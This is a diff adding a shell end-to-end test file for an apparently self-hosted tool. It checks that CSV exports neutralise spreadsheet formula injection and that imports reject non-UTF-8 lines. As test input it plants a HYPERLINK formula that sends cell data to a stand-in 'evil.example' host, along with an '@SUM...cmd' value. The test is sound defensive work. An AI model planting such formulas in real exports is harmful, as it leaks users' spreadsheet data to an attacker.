@@ -1,0 +1,56 @@
+#!/bin/sh
+# Issue 16.13, 16.23: CSV out never carries a formula a spreadsheet would
+# run; CSV in refuses text that is not UTF-8, naming the line.
+. "$(dirname "$0")/lib.sh"
+. "$SRCDIR/tests/e2e/lib-http.sh"
+
+wm init >/dev/null
+wm sample >/dev/null
+wm user add lena --role lead --person rlead --password "lead password" >/dev/null
+serve_start main
+URL=$(cat main.url)
+login lena lena "lead password"
+
+# no cell of a CSV begins (inside its quotes or not) with = + - @, a tab or CR, but a plain number
+no_formula() {
+	python3 - "$1" <<-PY
+	import csv, re, sys
+	bad = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row
+	       if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", c)]
+	sys.exit(1 if bad else 0)
+	PY
+}
+
+test_expect_success '16.13: a formula planted in an update is text in every CSV written' '
+	jq -n --arg t "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" \
+	    "{recommendation: \"DA2002/R13\", date: \"2005-04-15\", text: \$t}" >p.json &&
+	equals "$(call lena POST /api/v1/progress @p.json)" 201 &&
+	wm list progress --csv >list.csv &&
+	contains list.csv "\"'\''=HYPERLINK" && no_formula list.csv &&
+	wm report progress --source DA2002 --format csv >report.csv &&
+	contains report.csv "'\''=HYPERLINK" && no_formula report.csv &&
+	equals "$(call lena GET "/api/v1/reports/progress?source=DA2002&format=csv")" 200 &&
+	cp body.json api.csv && no_formula api.csv &&
+	wm add unit --ref ZZ --name "@SUM(1+1)*cmd" >/dev/null &&
+	curl -s -o web.csv -w "%{http_code}" -b lena.jar "$URL/units?format=csv" >st &&
+	equals "$(cat st)" 200 && contains web.csv "\"'\''@SUM" && no_formula web.csv
+'
+
+test_expect_success '16.13: plain negative and signed numbers stay numbers' '
+	wm add target --pi SC-01 --unit Camden --period 2009/10 --value -5 >/dev/null &&
+	wm list targets --pi SC-01 --unit Camden --csv >t.csv &&
+	contains t.csv "\"-5\"" && lacks t.csv "'\''-5"
+'
+
+test_expect_success '16.23: a CSV with text that is not UTF-8 is refused, naming the line' '
+	printf "ref,source,date,text\nZ001,survey,2005-01-01,Fine\nZ002,survey,2005-01-01,Bad \377\376 text\n" >bad.csv &&
+	expect_exit 1 wm import bad.csv 2>err &&
+	contains err "line 3 is not UTF-8" &&
+	expect_exit 1 wm show issue Z001 2>/dev/null &&
+	printf "pi,unit,period,value,note\nSC-01,Camden,2009-02,12,bad \377 note\n" >badf.csv &&
+	expect_exit 1 wm import --json badf.csv >out.json 2>/dev/null &&
+	equals "$(jq ".unread[0].line" out.json)" 2 &&
+	contains out.json "not UTF-8"
+'
+
+test_done
